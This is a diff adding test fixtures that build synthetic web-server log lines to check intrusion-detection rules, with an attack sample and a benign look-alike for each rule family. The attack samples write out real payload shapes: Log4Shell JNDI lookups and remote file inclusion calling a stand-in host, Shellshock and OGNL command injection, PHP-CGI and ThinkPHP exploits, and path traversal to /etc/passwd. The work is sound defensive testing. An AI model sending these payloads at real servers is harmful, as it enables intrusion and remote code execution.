@@ -362,3 +362,240 @@ def write_log(path, lines) -> None:
     with open(path, "w", encoding="utf-8") as handle:
         for item in lines:
             handle.write(item + "\n")
+
+
+# --- the rule families of the rule file: an attack and its benign twin each ---------------------------
+
+SCANNER_UA = (
+    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0 Safari/537.36"
+)
+FAMILY_ATTACKERS = {
+    "wordpress-user-enumeration": "45.135.232.17",
+    "wordpress-users-api": "45.135.232.18",
+    "wordpress-plugin-scan": "45.135.232.19",
+    "wordpress-xmlrpc-abuse": "45.135.232.20",
+    "joomla-component-scan": "45.135.232.21",
+    "admin-interface-probing": "45.135.232.22",
+    "scanner-signature": "45.135.232.23",
+    "spam-bot": "45.135.232.24",
+    "garbage-request": "45.135.232.25",
+    "remote-file-inclusion": "45.135.232.26",
+    "exploit-log4shell": "45.135.232.27",
+    "exploit-thinkphp": "45.135.232.28",
+    "exploit-phpunit": "45.135.232.29",
+    "exploit-apache-traversal": "45.135.232.30",
+    "exploit-ognl": "45.135.232.31",
+    "exploit-shellshock": "45.135.232.32",
+    "exploit-php-cgi": "45.135.232.33",
+    "exploit-framework": "45.135.232.34",
+    "exploit-edge-device": "45.135.232.35",
+}
+#: Rules an attack of a family may fire besides its own (the same requests match them too).
+FAMILY_ALSO = {
+    "exploit-apache-traversal": {"path-traversal"},
+    "exploit-edge-device": {"path-traversal"},
+    "exploit-framework": {"sensitive-files"},
+    "exploit-php-cgi": {"path-traversal"},
+}
+
+
+def raw_line(ip, epoch, request, status, size, referer="-", ua="-") -> str:
+    """A combined line with any request text (as the server logged it, escapes included)."""
+    return '%s - - [%s] "%s" %d %s "%s" "%s"' % (ip, stamp(epoch), request, status, size, referer, ua)
+
+
+def family_attack(rule: str, start: int = START + 3 * 86400 + 7200) -> list:
+    """Requests of a real attack of this family (shapes seen in public court-like logs)."""
+    ip = FAMILY_ATTACKERS[rule]
+
+    def get(i, target, status=404, method="GET", ua=SCANNER_UA, size=150):
+        return line(ip, start + i, method, target, status, size, "-", ua)
+
+    if rule == "wordpress-user-enumeration":
+        return [get(i, "/?author=%d" % (i + 1), 301) for i in range(5)]
+    if rule == "wordpress-users-api":
+        return [get(0, "/wp-json/wp/v2/users", 200, size=2300)]
+    if rule == "wordpress-plugin-scan":
+        names = ("revslider", "wp-file-manager", "duplicator", "elementor", "contact-form-7", "layerslider")
+        names += ("wp-gdpr-compliance", "easy-wp-smtp", "ultimate-member", "wpdiscuz")
+        return [get(i, "/wp-content/plugins/%s/readme.txt" % n) for i, n in enumerate(names)]
+    if rule == "wordpress-xmlrpc-abuse":
+        return [get(i * 5, "/xmlrpc.php", 200, "POST", size=403) for i in range(8)]
+    if rule == "joomla-component-scan":
+        names = ("com_fabrik", "com_jce", "com_media", "com_jdownloads", "com_foxcontact", "com_b2jcontact")
+        return [get(i, "/index.php?option=%s&view=x" % n) for i, n in enumerate(names)]
+    if rule == "admin-interface-probing":
+        paths = (
+            "/phpmyadmin/",
+            "/pma/",
+            "/myadmin/scripts/setup.php",
+            "/solr/admin/info/system",
+            "/actuator/env",
+        )
+        return [get(i, p) for i, p in enumerate(paths)] + [get(9, "/manager/html", 401)]
+    if rule == "scanner-signature":
+        return [get(0, "/w00tw00t.at.ISC.SANS.DFind:)", 400), get(1, "/HNAP1/", 404)]
+    if rule == "spam-bot":
+        return [get(i, "/kontak", 200, ua="EmailCollector/1.0", size=5000) for i in range(3)]
+    if rule == "garbage-request":
+        return [
+            raw_line(ip, start, "\\x16\\x03\\x01\\x00\\xA5\\x01\\x00\\x00\\xA1\\x03\\x03", 400, 157),
+            raw_line(
+                ip,
+                start + 1,
+                "\\x03\\x00\\x00/*\\xE0\\x00\\x00\\x00\\x00\\x00Cookie: mstshash=Administr",
+                400,
+                157,
+            ),
+            raw_line(ip, start + 2, "-", 400, 0),
+        ]
+    if rule == "remote-file-inclusion":
+        return [get(0, "/index.php?page=http://203.0.113.66/x.txt?", 200, size=900)]
+    if rule == "exploit-log4shell":
+        return [
+            get(0, "/?x=$%7Bjndi:ldap://203.0.113.66:1389/Basic/Command/Base64/d2dldA==%7D"),
+            get(1, "/", 200, ua="${jndi:ldap://203.0.113.66:1389/a}", size=30000),
+        ]
+    if rule == "exploit-thinkphp":
+        return [
+            get(
+                0,
+                "/index.php?s=/Index/\\x5Cthink\\x5Capp/invokefunction&function=call_user_func_array"
+                "&vars[0]=md5&vars[1][]=HelloThinkPHP21",
+            )
+        ]
+    if rule == "exploit-phpunit":
+        return [get(0, "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404, "POST")]
+    if rule == "exploit-apache-traversal":
+        return [
+            get(0, "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", 400, "POST"),
+            get(1, "/icons/.%%32%65/.%%32%65/.%%32%65/etc/passwd", 403),
+        ]
+    if rule == "exploit-ognl":
+        return [
+            get(
+                0,
+                "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime"
+                "%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%29%29%7D/",
+            )
+        ]
+    if rule == "exploit-shellshock":
+        return [get(0, "/cgi-bin/status", 404, ua='() { :; }; /bin/bash -c \\"id\\"')]
+    if rule == "exploit-php-cgi":
+        return [get(0, "/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", 404, "POST")]
+    if rule == "exploit-framework":
+        return [
+            get(0, "/_ignition/execute-solution", 405, "POST"),
+            get(1, "/?q=user/password&name[%23post_render][]=passthru&name[%23markup]=id", 404, "POST"),
+        ]
+    if rule == "exploit-edge-device":
+        return [
+            get(0, "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"),
+            get(1, "/vpn/../vpns/cfg/smb.conf"),
+            get(2, "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd"),
+        ]
+    raise KeyError(rule)
+
+
+def family_twin(rule: str, start: int = START + 3 * 86400 + 7200) -> list:
+    """Benign traffic that looks like the family's attack and must stay silent."""
+    person, ua = "182.1.20.30", PEOPLE_UA[0]
+
+    def get(i, target, status=200, method="GET", ip=person, agent=ua, size=9000, ref="-"):
+        return line(ip, start + i, method, target, status, size, ref, agent)
+
+    if rule == "wordpress-user-enumeration":  # a reader following an author link twice
+        return [get(0, "/?author=2", 301), get(1, "/author/humas/"), get(60, "/?author=2", 301)]
+    if rule == "wordpress-users-api":  # the block editor of a logged-in editor
+        return [
+            get(0, "/wp-json/wp/v2/users?context=edit&who=authors&per_page=100&_locale=user", ip=STAFF_IP),
+            get(1, "/wp-json/wp/v2/users/me?_locale=user", ip=STAFF_IP),
+            get(2, "/wp-json/wp/v2/posts?per_page=10"),
+        ]
+    if rule == "wordpress-plugin-scan":  # missing thumbnails and one missing theme image, many visitors
+        out = [
+            get(i, "/wp-content/uploads/2026/11/foto-%d-150x150.jpg" % i, 404, ip="182.1.20.%d" % (i % 9 + 1))
+            for i in range(60)
+        ]
+        out += [
+            get(
+                100 + i, "/wp-content/themes/pengadilan/images/bg-%d.png" % (i % 3), 404, ip="182.1.21.%d" % i
+            )
+            for i in range(40)
+        ]
+        out += [
+            get(200 + i, "/wp-content/plugins/contact-form-7/includes/css/styles.css?ver=5.9", 304)
+            for i in range(20)
+        ]
+        return out
+    if rule == "wordpress-xmlrpc-abuse":  # pingbacks from two blogs, a mobile app session
+        return [
+            get(
+                0, "/xmlrpc.php", method="POST", ip="192.0.2.10", agent="WordPress/6.6; https://blog.example"
+            ),
+            get(900, "/xmlrpc.php", method="POST", ip="192.0.2.11", agent="WordPress/6.5; https://x.example"),
+            get(1000, "/xmlrpc.php", method="POST", ip=STAFF_IP, agent="wp-android/25.0"),
+            get(1010, "/xmlrpc.php", method="POST", ip=STAFF_IP, agent="wp-android/25.0"),
+        ]
+    if rule == "joomla-component-scan":  # readers of a Joomla site, one old link
+        out = [get(i, "/index.php?option=com_content&view=article&id=%d" % i) for i in range(30)]
+        return out + [get(40, "/index.php?option=com_content&view=article&id=9999", 404)]
+    if rule == "admin-interface-probing":  # the court's own administrator in phpMyAdmin
+        return [
+            get(0, "/phpmyadmin/", ip=STAFF_IP),
+            get(1, "/phpmyadmin/index.php?route=/database/structure&db=wordpress", ip=STAFF_IP),
+            get(2, "/phpmyadmin/index.php", method="POST", ip=STAFF_IP),
+            get(3, "/phpmyadmin/js/dist/sql.js?v=5.2.1", ip=STAFF_IP),
+            get(4, "/phpmyadmin/themes/pmahomme/img/logo_left.png", ip=STAFF_IP),
+        ]
+    if rule == "scanner-signature":
+        return [get(0, "/berita/2026/11/woot-lomba-kebersihan"), get(1, "/panduan/setup-cgi")]
+    if rule == "spam-bot":  # a visitor downloading many verdicts with wget, real crawlers and previews
+        out = [
+            get(
+                i,
+                "/wp-content/uploads/2026/11/putusan-%d-pid.b-2026-pn.pdf" % i,
+                agent="Wget/1.21.3",
+                size=150000,
+            )
+            for i in range(80)
+        ]
+        out += [
+            get(100, "/", ip=GOOGLEBOT_IPS[0], agent=GOOGLEBOT_UA),
+            get(101, "/", ip=BINGBOT_IPS[0], agent=BINGBOT_UA),
+        ]
+        return out + [
+            get(
+                102,
+                "/berita/1",
+                agent="facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
+            )
+        ]
+    if rule == "garbage-request":  # a browser's unused preconnections (Apache logs them as 408), a bad URL
+        return [raw_line(person, start + i, "-", 408, 0) for i in range(5)] + [get(9, "/?q=%zz", 400)]
+    if rule == "remote-file-inclusion":  # links that carry a URL in their query
+        return [
+            get(0, "/wp-login.php?redirect_to=https://pn-contoh.go.id/wp-admin/&reauth=1", ip=STAFF_IP),
+            get(1, "/share?url=https://pn-contoh.go.id/berita/1"),
+            get(2, "/?page=2"),
+            get(3, "/index.php?page=https://pn-contoh.go.id/pengumuman/"),
+        ]
+    if rule == "exploit-log4shell":
+        return [get(0, "/?s=%24%7Bnama%7D+pengadilan"), get(1, "/?s=jndi")]
+    if rule == "exploit-thinkphp":
+        return [get(0, "/?s=thinkpad+lenovo"), get(1, "/berita/think-tank-hukum")]
+    if rule == "exploit-phpunit":
+        return [get(0, "/vendor/jquery/jquery.min.js"), get(1, "/panduan/evaluasi-stdin.html")]
+    if rule == "exploit-apache-traversal":
+        return [get(0, "/icons/folder.gif"), get(1, "/cgi-bin/status", 404)]
+    if rule == "exploit-ognl":
+        return [get(0, "/?s=%23hashtag"), get(1, "/?q=harga+%25+diskon"), get(2, "/jadwal.action?id=3")]
+    if rule == "exploit-shellshock":
+        return [get(0, "/", agent="Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.1; Trident/6.0) {x}")]
+    if rule == "exploit-php-cgi":
+        return [get(0, "/?s=-d+pengadilan"), get(1, "/index.php?-")]
+    if rule == "exploit-framework":
+        return [get(0, "/?s=class+module+loader"), get(1, "/user/password")]
+    if rule == "exploit-edge-device":
+        return [get(0, "/layanan/vpn"), get(1, "/remote/"), get(2, "/tmui-panduan")]
+    raise KeyError(rule)
